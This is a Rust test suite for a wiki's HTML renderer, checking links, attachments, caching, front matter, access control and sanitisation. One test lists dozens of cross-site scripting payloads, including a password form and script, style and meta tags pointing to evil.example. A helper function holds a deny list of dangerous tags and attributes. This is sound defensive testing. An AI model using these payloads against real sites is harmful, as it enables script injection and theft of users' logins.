//! Pages as HTML: links that lead where they should, and nothing that runs.

use http::Method;
use serde_json::{Value, json};
use testkit::{Git, TestServer, User, test_data};

async fn garden_with(pages: &[(&str, &str)]) -> (TestServer, User, User) {
    let (server, operator, editor) = TestServer::with_garden().await;
    for (path, text) in pages {
        editor.on("garden").create(path, text).await.good();
    }
    (server, operator, editor)
}

async fn html(user: &User, text: &str) -> String {
    let etag = match user.on("garden").read("scratch").await.json()["etag"].as_str() {
        Some(etag) => etag.to_owned(),
        None => user.on("garden").create("scratch", "x").await.good().json()["etag"]
            .as_str()
            .unwrap()
            .to_owned(),
    };
    user.on("garden").save("scratch", &etag, text).await.good();
    let page = user.on("garden").rendered("scratch").await.good().json();
    page["html"].as_str().unwrap().to_owned()
}

/// The elements of some HTML, each with its attributes, as a browser would take them apart.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).filter_map(|tag| tag.split_once('>')).map(|(tag, _)| tag).collect()
}

/// Fails if there is anything in `html` that runs, loads code, submits, frames or styles.
fn assert_harmless(html: &str, source: &str) {
    for tag in tags(html) {
        let tag = tag.to_ascii_lowercase();
        let name: &str =
            tag.split([' ', '/', '\n', '\t']).find(|part| !part.is_empty()).unwrap_or_default();
        let bad = [
            "script", "style", "iframe", "object", "embed", "form", "svg", "math", "link", "meta",
            "base", "template", "button", "textarea", "select", "video", "audio", "frame",
            "frameset", "applet", "noscript", "title",
        ];
        assert!(!bad.contains(&name), "<{tag}> from {source}: {html}");
        for attribute in [
            " on",
            " style=",
            " srcdoc=",
            " formaction=",
            " name=",
            " action=",
            " xlink:",
            " ping=",
        ] {
            // In quotes it is text.
            let outside: String = tag.split('"').step_by(2).collect();
            assert!(
                !outside.contains(&attribute.replace('=', "")) || !outside.contains(attribute),
                "<{tag}> from {source}"
            );
        }
        for target in ["href=\"", "src=\""] {
            let Some((_, url)) = tag.split_once(target) else { continue };
            let url = url.split('"').next().unwrap();
            let good = ["/", "#", "https://", "http://", "mailto:", "tel:"]
                .iter()
                .any(|start| url.starts_with(start));
            let relative = !url.contains(':');
            assert!(good || relative, "<{tag}> from {source}");
        }
        if let Some((_, id)) = tag.split_once(" id=\"") {
            assert!(id.starts_with("user-content-"), "<{tag}> from {source}");
        }
    }
}

#[tokio::test]
async fn nothing_in_a_page_runs() {
    let (_server, _, editor) = garden_with(&[]).await;
    for text in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img/src=x/onerror=alert(1)>",
        "<IMG SRC=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover='alert(1)'>x</div>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#1;javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](\\javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](javascript:alert(1))",
        "![x](data:image/png;base64,AAAA)",
        "[x]\n\n[x]: javascript:alert(1)\n",
        "<javascript:alert(1)>",
        "[[javascript:alert(1)]]",
        "[[javascript://%0aalert(1)]]",
        "![[javascript:alert(1)]]",
        "[[\"><script>alert(1)</script>]]",
        "[[x|<img src=x onerror=alert(1)>]]",
        "[x](/a\"onclick=\"alert(1))",
        "[x](/a 'title\" onclick=\"alert(1)')",
        "[x](//evil.example \"a\")",
        "![x\" onerror=\"alert(1)](x.png)",
        "```\"><script>alert(1)</script>\nx\n```",
        "```x\" onclick=\"alert(1)\nx\n```",
        "# <script>alert(1)</script>",
        "# x {onclick=alert(1)}",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<style>*{background:url(//evil.example)}</style>",
        "<p style=\"position:fixed;top:0\">x</p>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)></object><embed src=x>",
        "<form action=//evil.example><input name=password type=password><button>ok</button></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/><link rel=stylesheet href=//evil.example>",
        "<template><script>alert(1)</script></template>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<a id=location name=location href=x>x</a><img name=cookie>",
        "<h1 id=\"user-content-x\" id=defaultView>x</h1>",
        "a[^getElementById]\n\n[^getElementById]: x\n",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "<textarea><script>alert(1)</script>",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "| a |\n|---|\n| <script>alert(1)</script> [x](javascript:alert(1)) |\n",
        "---\ntitle: <script>alert(1)</script>\n---\nx",
    ] {
        let html = html(&editor, text).await;
        assert_harmless(&html, text);
    }
}

/// Whatever no page may be called can stand in a link all the same.
#[tokio::test]
async fn names_from_other_programs_accidents_are_harmless_in_links() {
    let (_server, _, editor) = garden_with(&[]).await;
    let mut text = String::new();
    let entries = std::fs::read_to_string(test_data("bad_inputs.json")).unwrap();
    let entries: Vec<Value> = serde_json::from_str(&entries).unwrap();
    for entry in entries.iter().filter(|entry| entry["area"] == "page_path") {
        let input = entry["input"].as_str().unwrap();
        text += &format!("[[{input}]] [x]({input}) ![x](<{input}>) [[x|{input}]]\n\n");
    }
    let html = html(&editor, &text).await;
    assert_harmless(&html, "page_path");
    assert!(html.contains("class=\"wiki-link missing\""));
}

#[tokio::test]
async fn links_say_whether_they_lead_anywhere() {
    let text = "[[garden/roses|R]] [r](Garden/ROSES.md#Care) [[tulips]] ![p](photo.png) [e](https://example.org)";
    let (_server, _, editor) = garden_with(&[("home", text), ("garden/roses", "# Roses")]).await;
    let wiki = editor.on("garden");
    let before = wiki.rendered("home").await.good();
    let page = before.json();
    let link = |target: &str, kind: &str, exists: bool| json!({ "target": target, "kind": kind, "exists": exists });
    assert_eq!(
        page["links"],
        json!([
            link("garden/roses", "wiki", true),
            link("garden/roses", "link", true),
            link("tulips", "wiki", false),
            link("photo.png", "image", false),
        ])
    );
    let html = page["html"].as_str().unwrap();
    for expected in [
        "<a href=\"/w/garden/garden/roses\" class=\"wiki-link\"",
        "<a href=\"/w/garden/garden/roses#user-content-care\" class=\"wiki-link\"",
        "<a href=\"/w/garden/tulips\" class=\"wiki-link missing\"",
        "<a href=\"https://example.org\" rel=\"nofollow noopener\">",
    ] {
        assert!(html.contains(expected), "{html}");
    }
    // The page stays, but one of its targets comes into being.
    let created = wiki.create("tulips", "x").await.good().json();
    let after = wiki.rendered("home").header("if-none-match", before.header("etag")).await.good();
    assert_eq!(after.status(), 200);
    assert_eq!(after.json()["links"][2]["exists"], true);
    assert_eq!(after.json()["etag"], page["etag"]);
    wiki.delete("tulips", created["etag"].as_str().unwrap()).await.good();
    let again = wiki.rendered("home").await.good();
    assert_eq!(again.json(), page);
    assert_eq!(again.header("etag"), before.header("etag"));
}

#[tokio::test]
async fn attachments_are_found_beside_the_page_and_below_it() {
    let (server, _, editor) =
        garden_with(&[("a/b", "![1](one.png) ![2](two.png) ![3](/a/b/a/two.png) ![[two.png]]")])
            .await;
    let scratch = testkit::scratch();
    let repo = server.git("garden");
    Git::at(scratch.path()).run(&[
        "clone",
        "-q",
        "-b",
        "main",
        repo.dir().to_str().unwrap(),
        "clone",
    ]);
    let work = Git::at(scratch.path().join("clone"));
    work.write("a/one.png", b"x");
    work.write("a/b/two.png", b"x");
    work.commit("pictures");
    work.run(&["push", "-q", "origin", "main"]);
    let page = editor.on("garden").rendered("a/b").await.good().json();
    let html = page["html"].as_str().unwrap();
    assert_eq!(html.matches("src=\"/w/garden/api/v1/attachments/a/one.png\"").count(), 1, "{html}");
    assert_eq!(
        html.matches("src=\"/w/garden/api/v1/attachments/a/b/two.png\"").count(),
        3,
        "{html}"
    );
}

#[tokio::test]
async fn a_client_that_has_it_is_told_so() {
    let (_server, _, editor) = garden_with(&[("home", "# Home\n")]).await;
    let wiki = editor.on("garden");
    let first = wiki.rendered("home").await.good();
    let page = wiki.read("home").await.good();
    assert_eq!(first.header("vary"), page.header("vary"));
    assert_eq!(first.header("cache-control"), page.header("cache-control"));
    let etag = first.header("etag").to_owned();
    let again = wiki.rendered("home").header("if-none-match", &etag).await;
    assert_eq!((again.status(), again.header("etag")), (304, etag.as_str()));
    let html = wiki.rendered("home").header("accept", "text/html").await.good();
    assert_ne!(html.header("etag"), etag);
    assert_eq!(html.header("content-type"), "text/html; charset=utf-8");
    assert!(html.header("content-security-policy").starts_with("default-src 'none'"));
    assert_eq!(html.text(), first.json()["html"].as_str().unwrap());
    let saved = first.json()["etag"].as_str().unwrap().to_owned();
    wiki.save("home", &saved, "# New\n").await.good();
    let changed = wiki.rendered("home").header("if-none-match", &etag).await.good();
    assert_eq!(changed.json()["title"], "New");
}

#[tokio::test]
async fn an_earlier_state_is_rendered_with_what_there_was_then() {
    let (_server, _, editor) = garden_with(&[("home", "[[later]] old\n")]).await;
    let wiki = editor.on("garden");
    let first = wiki.rendered("home").await.good().json();
    wiki.create("later", "x").await.good();
    wiki.save("home", first["etag"].as_str().unwrap(), "[[later]] new\n").await.good();
    let then = wiki.rendered("home").query("at", first["revision"].as_str().unwrap()).await.good();
    assert_eq!(then.json(), first);
    let now = wiki.rendered("home").await.good().json();
    assert_eq!(now["links"][0]["exists"], true);
    wiki.rendered("home").query("at", "0".repeat(40)).await.problem("unknown_revision");
    wiki.rendered("home").query("at", "main").await.problem("invalid_revision");
    wiki.rendered("nothing").await.problem("page_not_found");
}

#[tokio::test]
async fn front_matter_is_read_and_not_shown() {
    let pages = [
        ("good", "---\ntitle: Roses\ntags: [a, b]\n---\n# Text\n"),
        ("bad", "---\na: [\n---\n# Text\n"),
        ("none", "# Text\n"),
    ];
    let (_server, _, editor) = garden_with(&pages).await;
    let wiki = editor.on("garden");
    let [good, bad, none] = [
        wiki.rendered("good").await.good().json(),
        wiki.rendered("bad").await.good().json(),
        wiki.rendered("none").await.good().json(),
    ];
    assert_eq!(good["front_matter"], json!({ "title": "Roses", "tags": ["a", "b"] }));
    assert_eq!((&bad["front_matter"], &none["front_matter"]), (&Value::Null, &Value::Null));
    assert!(bad["front_matter_error"].is_string() && none["front_matter_error"].is_null());
    assert_eq!(good["html"], none["html"]);
    assert_eq!(bad["html"], none["html"]);
    assert_eq!(
        good["headings"],
        json!([{ "level": 1, "text": "Text", "id": "user-content-text" }])
    );
}

#[tokio::test]
async fn a_page_that_would_take_too_much_is_shown_as_text() {
    let (_server, _, editor) = garden_with(&[]).await;
    for part in ["<b>\n\n", "> ", "[[a]] <script>"] {
        let text = part.repeat(1_200_000 / part.len());
        let html = html(&editor, &text).await;
        assert!(html.starts_with("<pre>") && tags(&html) == ["pre", "/pre"], "{part}");
    }
}

#[tokio::test]
async fn who_may_not_read_a_page_does_not_see_it_rendered() {
    let (_server, operator, editor) = garden_with(&[("home", "secret")]).await;
    editor.on("garden").rendered("home").await.good();
    assert_eq!(operator.without_token().on("garden").rendered("home").await.status(), 404);
    operator.create_wiki("other").await.good();
    let stranger = operator.token("other", "editor").await;
    assert_eq!(stranger.on("garden").rendered("home").await.status(), 404);
    // Another wiki with the same page at the same path has its own links.
    stranger.on("other").create("home", "[[x]]").await.good();
    stranger.on("other").create("x", "x").await.good();
    let etag = editor.on("garden").read("home").await.json()["etag"].as_str().unwrap().to_owned();
    editor.on("garden").save("home", &etag, "[[x]]").await.good();
    for (user, wiki, exists) in
        [(&stranger, "other", true), (&editor, "garden", false), (&stranger, "other", true)]
    {
        let page = user.on(wiki).rendered("home").await.good().json();
        assert_eq!(page["links"][0]["exists"], exists, "{wiki}");
        assert!(page["html"].as_str().unwrap().contains(&format!("href=\"/w/{wiki}/x\"")));
    }
    let answer = editor.on("garden").api(Method::POST, "/render/home").await;
    assert_eq!(answer.status(), 405);
}
